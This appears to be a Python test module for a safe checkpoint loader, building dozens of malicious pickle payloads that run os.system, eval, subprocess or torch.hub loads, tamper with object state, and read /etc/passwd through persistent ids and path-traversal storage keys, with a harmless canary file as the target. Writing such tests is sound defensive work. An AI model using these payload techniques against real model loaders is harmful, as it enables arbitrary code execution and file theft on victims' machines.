"""Pickles that try to run code."""
# ruff: noqa: D103  (each name says what the attack tries)

import functools
import operator
import os
import pathlib
import pickle
import subprocess
from typing import Any

import numpy as np

from attacks import CANARY, attack
from attacks.building import TOUCH, archive, call, name, program, rebuilt, storage, text, value


class Reduces:
    """Pickles as a call."""

    def __init__(self, func: Any, *args: Any) -> None:
        self.call = func, args

    def __reduce__(self) -> Any:
        return self.call


def calling(func: Any, *args: Any, protocol: int = 2) -> bytes:
    """Return a checkpoint that calls an importable function."""
    return archive(pickle.dumps({"weight": Reduces(func, *args)}, protocol))


@attack()
def os_system() -> bytes:
    return calling(os.system, f"touch {CANARY}")


@attack()
def os_system_protocol_4() -> bytes:
    return calling(os.system, f"touch {CANARY}", protocol=4)


@attack()
def nt_system() -> bytes:
    return program(call(name("nt", "system"), text(f"touch {CANARY}")))


@attack()
def subprocess_popen() -> bytes:
    return calling(subprocess.Popen, ["touch", CANARY])


@attack()
def builtins_eval() -> bytes:
    return calling(eval, TOUCH)


@attack()
def builtins_exec_by_its_python_2_name() -> bytes:
    return program(call(name("__builtin__", "exec"), text(TOUCH)))


@attack()
def builtins_import() -> bytes:
    return calling(__import__, "this")


@attack()
def builtins_open() -> bytes:
    return calling(open, CANARY, "w")


@attack()
def path_touch() -> bytes:
    return calling(pathlib.Path.touch, pathlib.Path(CANARY), protocol=4)


@attack()
def getattr_chain() -> bytes:
    return program(call(call(name("__builtin__", "getattr"), name("os", "path"), text("os")), text("system")))


@attack()
def dotted_name() -> bytes:
    """Reach through an allowed class to its module: collections.OrderedDict.__init__.__globals__ ..."""
    parts = text("collections"), text("OrderedDict.__class__.__base__.__subclasses__"), pickle.STACK_GLOBAL
    return archive(b"\x80\x04" + b"".join(parts) + b")R.")


@attack()
def module_inside_an_allowed_module() -> bytes:
    return program(call(name("torch.serialization.os", "system"), text(f"touch {CANARY}")))


@attack()
def name_with_a_trailing_part() -> bytes:
    return program(call(name("torch._utils", "_rebuild_tensor_v2.__globals__.get"), text("os")))


@attack()
def functools_partial() -> bytes:
    return calling(functools.partial, os.system, f"touch {CANARY}")


@attack()
def operator_methodcaller() -> bytes:
    return calling(operator.methodcaller, "system", f"touch {CANARY}")


@attack()
def torch_load_inside_load() -> bytes:
    """Ask torch's own loader to load a second, unsafe file."""
    return program(call(name("torch.serialization", "load"), text(CANARY)))


@attack()
def torch_hub() -> bytes:
    return program(call(name("torch.hub", "load"), text("someone/evil")))


@attack()
def torch_jit_unpickler() -> bytes:
    return program(call(name("torch.package.importer", "import_module"), text("os")))


@attack()
def pickle_loads_inside() -> bytes:
    return calling(pickle.loads, pickle.dumps(Reduces(eval, TOUCH)))


@attack()
def numpy_object_array() -> bytes:
    array = np.empty(1, object)
    array[0] = Reduces(eval, TOUCH)
    return archive(pickle.dumps(array, 2))


@attack()
def numpy_object_array_of_innocent_objects() -> bytes:
    return archive(pickle.dumps(np.array([{}], object), 2))


@attack()
def numpy_object_dtype_alone() -> bytes:
    return program(call(name("numpy", "dtype"), value("O8"), value(False), value(True)))


@attack()
def numpy_record_dtype() -> bytes:
    return archive(pickle.dumps(np.zeros(1, [("a", "f4"), ("b", object)]), 2))


@attack()
def numpy_fields_through_the_state() -> bytes:
    """Turn a harmless dtype into one with object fields, by its state."""
    dtype = call(name("numpy", "dtype"), value("V8"), value(False), value(True))
    return program(dtype, value((3, "|", None, ("a",), {"a": (0, 0)}, 8, 8, 27)), pickle.BUILD)


@attack()
def numpy_reconstruct_of_another_class() -> bytes:
    args = (
        name("__builtin__", "list"),
        value((0,)),
        call(name("_codecs", "encode"), text("b"), text("latin1")),
    )
    return program(call(name("numpy.core.multiarray", "_reconstruct"), *args))


@attack()
def numpy_load() -> bytes:
    return program(call(name("numpy", "load"), text(CANARY), value(None), value(True)))


@attack()
def numpy_f2py_exec() -> bytes:
    return program(call(name("numpy.testing._private.utils", "runstring"), text(TOUCH), value({})))


@attack()
def codecs_other_encoding() -> bytes:
    """`encode` may only spell bytes: other codecs load modules."""
    return program(call(name("_codecs", "encode"), text("x"), text("zlib_codec")))


@attack()
def set_state_of_a_function() -> bytes:
    """BUILD on a rebuild function would change the library for the rest of the process."""
    return program(name("torch._utils", "_rebuild_tensor_v2"), value({"__wrapped__": 1}), pickle.BUILD)


@attack()
def set_slots_of_a_function() -> bytes:
    return program(
        name("torch._utils", "_rebuild_tensor_v2"), value((None, {"__defaults__": (1,)})), pickle.BUILD
    )


@attack()
def set_state_of_a_class() -> bytes:
    return program(name("collections", "OrderedDict"), value({"items": 1}), pickle.BUILD)


@attack()
def hide_methods_of_a_state_dict() -> bytes:
    return program(call(name("collections", "OrderedDict")), value({"items": 1}), pickle.BUILD)


@attack()
def replace_parts_of_a_parameter() -> bytes:
    inner = rebuilt(storage(4), 0, (4,), (1,), False, None)
    args = inner, value(True), value(None), value({"__class__": 1})
    body = call(name("torch._utils", "_rebuild_parameter_with_state"), *args)
    return archive(b"\x80\x02" + body + b".", {"0": bytes(16)})


@attack()
def replace_the_gradient_of_a_tensor() -> bytes:
    """Names that a Tensor uses for itself are no attributes of the user's."""
    args = pickle.MARK + storage(4) + b"".join(map(value, (0, (4,), (1,), False, None))) + pickle.TUPLE
    kind = name("torch._utils", "_rebuild_tensor_v2"), name("torch", "Tensor")
    body = call(name("torch._tensor", "_rebuild_from_type_v2"), *kind, args, value({"_leaf": 1}))
    return archive(b"\x80\x02" + body + b".", {"0": bytes(16)})


@attack()
def rebuild_something_else() -> bytes:
    """_rebuild_from_type_v2 calls the function it is given."""
    args = name("__builtin__", "set"), name("torch", "Tensor"), value(([1],)), value({})
    return program(call(name("torch._tensor", "_rebuild_from_type_v2"), *args))


@attack()
def call_a_plain_value() -> bytes:
    return program(value("system"), value((1,)), pickle.REDUCE)


@attack()
def call_a_storage_class() -> bytes:
    return program(call(name("torch", "FloatStorage"), value(1 << 40)))


@attack()
def new_object_of_type() -> bytes:
    return program(name("__builtin__", "type"), value(("X", (), {})), pickle.NEWOBJ)


@attack()
def default_factory_that_runs() -> bytes:
    """A missing key would call the factory later."""
    return program(call(name("collections", "defaultdict"), name("torch", "device")))


@attack()
def old_opcode_inst() -> bytes:
    return program(pickle.MARK, text(TOUCH), pickle.INST + b"__builtin__\neval\n")


@attack()
def old_opcode_obj() -> bytes:
    return program(pickle.MARK, name("__builtin__", "eval"), text(TOUCH), pickle.OBJ)


@attack()
def extension_registry() -> bytes:
    return program(pickle.EXT1 + b"\x01")


@attack()
def text_persistent_id() -> bytes:
    return program(pickle.PERSID + b"/etc/passwd\n")


@attack()
def container_source_of_old_torch() -> bytes:
    """A ('module', cls, file, source) id made old versions of torch read source files."""
    return program(value(("module", "cls", "/etc/passwd", "source")), pickle.BINPERSID)


@attack()
def storage_key_that_is_a_path() -> bytes:
    return program(storage(1, "../../../../etc/passwd"))


@attack()
def storage_class_that_is_none() -> bytes:
    return program(value(("storage", "FloatStorage", "0", "cpu", 1)), pickle.BINPERSID)


@attack()
def bare_pickle_without_archive() -> bytes:
    return pickle.dumps(Reduces(eval, TOUCH), 2)
